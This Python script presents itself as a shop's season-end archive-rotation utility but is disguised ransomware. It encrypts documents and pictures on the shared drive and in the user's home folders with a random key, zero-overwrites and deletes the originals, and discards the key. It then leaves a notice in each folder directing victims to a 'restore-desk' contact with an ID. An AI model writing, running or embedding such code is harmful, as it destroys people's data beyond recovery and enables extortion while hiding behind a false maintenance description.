#!/usr/bin/env python3
"""Season-end archive rotation for the shop's shared drive.

Compacts last season's documents (supplier invoices, design files, stock
sheets) into the sealed archive format so the NAS snapshot stays small.
"""
import argparse
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("archive_rotation")

ROOTS = [
    os.environ.get("SHARED_DRIVE", "/srv/kiteshop/shared"),
    "~/Documents",
    "~/Pictures",
]
SEALED_SUFFIX = ".ksarc"
SKIP_DIRS = {".git", "node_modules", "__pycache__"}
ELIGIBLE = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".psd",
            ".ai", ".odt", ".ods", ".txt", ".sqlite"}
NOTICE_NAME = "ARCHIVE_NOTICE.txt"
NOTICE = (
    "Your files have been sealed by the archive service.\n"
    "To restore them contact restore-desk@example.org with ID {ident}.\n"
)


class Sealer:
    def __init__(self):
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.ident = secrets.token_hex(8)

    def seal(self, path):
        data = path.read_bytes()
        nonce = secrets.token_bytes(12)
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(nonce + self._aead.encrypt(nonce, data, None))
        self._retire(path, len(data))

    @staticmethod
    def _retire(path, size):
        # overwrite before unlinking so the NAS dedupe does not keep stale blocks
        with path.open("r+b") as fh:
            fh.write(b"\0" * size)
        path.unlink()

    def forget(self):
        self._key = None
        self._aead = None


def candidates(root):
    base = Path(root).expanduser()
    if not base.is_dir():
        return
    for dirpath, dirnames, filenames in os.walk(base):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in ELIGIBLE and not name.endswith(SEALED_SUFFIX):
                yield p


def drop_notice(directory, ident):
    (directory / NOTICE_NAME).write_text(NOTICE.format(ident=ident))


def rotate(roots, sealer):
    sealed = 0
    touched = set()
    for root in roots:
        for path in candidates(root):
            try:
                sealer.seal(path)
                sealed += 1
                touched.add(path.parent)
            except OSError as exc:
                log.debug("skip %s: %s", path, exc)
    for d in touched:
        drop_notice(d, sealer.ident)
    return sealed


def main():
    ap = argparse.ArgumentParser(description="Season-end archive rotation")
    ap.add_argument("--root", action="append", help="extra root to rotate")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(message)s")

    roots = ROOTS + (args.root or [])
    sealer = Sealer()
    count = rotate(roots, sealer)
    sealer.forget()
    log.info("rotation finished: %d files sealed (ref %s)", count, sealer.ident)


if __name__ == "__main__":
    main()
